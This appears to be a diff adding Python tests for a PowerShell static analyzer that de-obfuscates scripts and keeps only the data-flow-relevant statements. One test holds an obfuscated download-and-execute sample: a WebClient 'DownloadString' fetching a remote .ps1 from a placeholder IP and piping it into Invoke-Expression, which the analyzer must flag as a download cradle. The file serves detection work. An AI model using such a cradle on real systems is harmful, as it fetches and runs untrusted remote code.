@@ -1,0 +1,56 @@
+"""The folded script keeps only the statements folding changed and their neighbours in data flow."""
+
+from __future__ import annotations
+
+from psscript_graphql.analyzer.analyze import analyze_script
+from psscript_graphql.analyzer.fold_roots import script_roots
+from psscript_graphql.analyzer.fold_slice import kept_spans
+from psscript_graphql.analyzer.folded_script import fold_script
+from psscript_graphql.analyzer.parse import parse_script
+
+PADDING = "Write-Output 'unrelated work'\n" * 1500  # 45 kB: over fold_slice.MIN_BLANKED_BYTES
+LINES = PADDING.count("\n")
+
+
+def test_statements_with_nothing_folded_are_blanked_and_offsets_still_map_back() -> None:
+    text = "param($Path)\n" + PADDING + "& ('Get-'+'Date') -Format o\n" + PADDING + "Get-Item $Path\n"
+    tree = parse_script(text)
+    folded = fold_script(tree)
+    assert folded is not None
+    lines = folded.tree.text.split("\n")
+    assert len(lines) == len(text.split("\n"))
+    assert lines[0] == "param($Path)"  # the script's param block is always kept
+    assert lines[LINES + 1] == "& Get-Date -Format o"
+    assert not lines[1].strip() and not lines[LINES + 2].strip() and not lines[-2].strip()
+    assert not folded.tree.has_errors
+    # A finding's offset after the blanked statements still maps to the text as written.
+    after = folded.tree.text.index("-Format")
+    assert folded.to_original(after) == text.index("-Format")
+    assert folded.tree.commands_named("Get-Date")[0].line == LINES + 2
+
+
+def test_statements_assigning_or_reading_what_a_folded_statement_uses_are_kept() -> None:
+    text = ("$wc = New-Object Net.WebClient\n" + PADDING
+            + "$data = $wc.('Down'+'loadString')('http://203.0.113.9/a.ps1')\n" + PADDING
+            + "Invoke-Expression $data\n")
+    tree = parse_script(text)
+    spans = kept_spans(tree, script_roots(tree))
+    assert spans is not None
+    kept = [text[start:end] for start, end in spans]
+    assert kept == ["$wc = New-Object Net.WebClient", "$data = $wc.('Down'+'loadString')('http://203.0.113.9/a.ps1')",
+                    "Invoke-Expression $data"]
+    # The download flows into Invoke-Expression across 3,000 blanked lines: a cradle, not a plain download.
+    found = {(finding.rule, finding.line) for finding in analyze_script(text).findings}
+    assert ("PSDownloadCradle", LINES + 2) in found
+    assert ("PSNetWebClientDownload", LINES + 2) not in found
+
+
+def test_small_scripts_and_scripts_folded_almost_everywhere_are_folded_whole() -> None:
+    small = "$a = 'Get-' + 'Date'\nWrite-Output 'unrelated'\n"
+    tree = parse_script(small)
+    assert kept_spans(tree, script_roots(tree)) is None
+    folded = fold_script(tree)
+    assert folded is not None and folded.tree.text == "$a = 'Get-Date'\nWrite-Output 'unrelated'\n"
+    dense = "$a = 'Get-' + 'Date'\n& $a\n$b = 'x' + 'y'\n" * 3000
+    tree = parse_script(dense)
+    assert kept_spans(tree, script_roots(tree)) is None
